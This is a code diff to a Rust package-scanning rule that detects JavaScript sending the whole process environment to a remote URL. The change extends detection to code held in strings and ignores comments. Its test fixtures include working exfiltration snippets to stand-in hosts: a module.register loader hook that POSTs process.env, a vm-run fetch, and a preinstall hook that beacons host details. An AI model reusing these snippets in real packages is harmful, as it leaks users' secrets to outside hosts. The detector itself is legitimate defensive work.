@@ -10,7 +10,9 @@ crate::declare_rule! {
     /// at once. Diagnostics tools print it locally (`medium`); with network access in the same
     /// file or at install time it is exfiltration (`high`). The whole environment put into a
     /// request to a fixed URL, directly or through a local function that posts its argument,
-    /// is `critical`. Names filtered at once to a fixed prefix (`/^debug_/i.test(k)`,
+    /// is `critical`; a request written out with its URL counts even in code kept in a string
+    /// (a `data:` module for `module.register`, an eval worker), not in a comment.
+    /// Names filtered at once to a fixed prefix (`/^debug_/i.test(k)`,
     /// `k.startsWith('CARGO_')`) are one family of settings, not the whole environment.
     id: "env-harvest",
     category: Data,
@@ -26,6 +28,7 @@ crate::declare_rule! {
            "const e = process.env; for (const k in e) out[k] = e[k]",
            "Object.entries(process.env).forEach(([k, v]) => send(k, v))",
            "const https = require('https'); const all = Object.keys(process.env).filter((k) => k !== 'PATH'); https.get(u)",
+           "import { register } from 'node:module';\nconst hooks = `export async function load(url, ctx, next) { const r = await next(url, ctx); ' + 'fetch(\"https://t.example.net/v\", { method: \"POST\", body: JSON.stringify({ u: url, e: process.env }) })' + ''; return r; }`;\nregister('data:text/javascript,' + encodeURIComponent(hooks));",
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"node index.js\"}}\n=== index.js\nconst os = require('os'); const https = require('https'); const d = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, n: os.networkInterfaces(), p: os.platform() }); https.get('https://c.example/?d=' + d)"],
     pass: ["spawn('node', ['build.js'], { env: process.env, stdio: 'inherit' }); console.log(JSON.stringify({ ok: true }))",
            "const https = require('https'); function run(cmd) { return execa(cmd, [], { env: process.env }) } https.get(u, cb); run('ls')",
@@ -174,7 +177,17 @@ fn prefix_pick(text: &str, off: u32) -> bool {
 /// function whose body posts its arguments.
 fn env_in_request(f: &crate::package::FileCtx) -> Option<u32> {
     let text = &f.text;
-    if !text.contains("process.env") || !super::has_network(f) {
+    // Without a parsed network call, only a file that runs code it holds as a string can send
+    // from text the analyser did not see as code.
+    let net = super::has_network(f);
+    if !text.contains("process.env")
+        || !net
+            && !f.js.as_ref().is_some_and(|js| {
+                js.calls
+                    .iter()
+                    .any(|c| crate::flow::code_runner(&c.path, c.n_args).is_some())
+            })
+    {
         return None;
     }
     // Both searches below end with this alternative (the whole environment as a value), so a
@@ -191,8 +204,18 @@ fn env_in_request(f: &crate::package::FileCtx) -> Option<u32> {
             r"[^;]{0,300}?(?:[:,(]\s*process\.env\s*[,})]|\.\.\.process\.env\b)"
         ))
     });
-    if let Some(m) = DIRECT.find(text) {
+    // A send written out with its URL is network use whether the analyser saw the call or
+    // not: code kept in a string that another loader runs (a `data:` module handed to
+    // `module.register`) is text here. Not in a comment.
+    if let Some(m) = DIRECT.find_iter(text).take(8).find(|m| {
+        let start = text[..m.start()].rfind('\n').map_or(0, |i| i + 1);
+        let line = text[start..m.start()].trim_start();
+        !(line.starts_with("//") || line.starts_with('*') || line.starts_with("/*"))
+    }) {
         return Some(m.start() as u32);
+    }
+    if !net {
+        return None;
     }
     // function ship(kind, data) { … axios.post(URL, { kind, data }) … } … ship("env", process.env)
     let wrapper = crate::regex!(
@@ -216,4 +239,30 @@ fn env_in_request(f: &crate::package::FileCtx) -> Option<u32> {
         }
     }
     None
+}
+
+#[cfg(test)]
+mod text_send_tests {
+    use crate::model::Severity;
+    use crate::rules::testing::run;
+
+    #[test]
+    fn a_send_of_the_environment_written_in_a_comment_is_not_critical() {
+        let src = "// never do this: fetch('https://logs.example/', { body: JSON.stringify({ env: process.env }) })\nconsole.log(Object.keys(config))";
+        let hits = run(&super::RULE, "index.js", src);
+        assert!(
+            hits.iter().all(|h| h.severity < Severity::Critical),
+            "{hits:?}"
+        );
+    }
+
+    #[test]
+    fn a_send_of_the_environment_in_code_kept_as_a_string_is_critical() {
+        let src = "const src = 'const s = () => fetch(\"https://t.example.net/v\", { method: \"POST\", body: JSON.stringify({ e: process.env }) });';\nrequire('vm').runInThisContext(src);";
+        let hits = run(&super::RULE, "index.js", src);
+        assert!(
+            hits.iter().any(|h| h.severity == Severity::Critical),
+            "{hits:?}"
+        );
+    }
 }
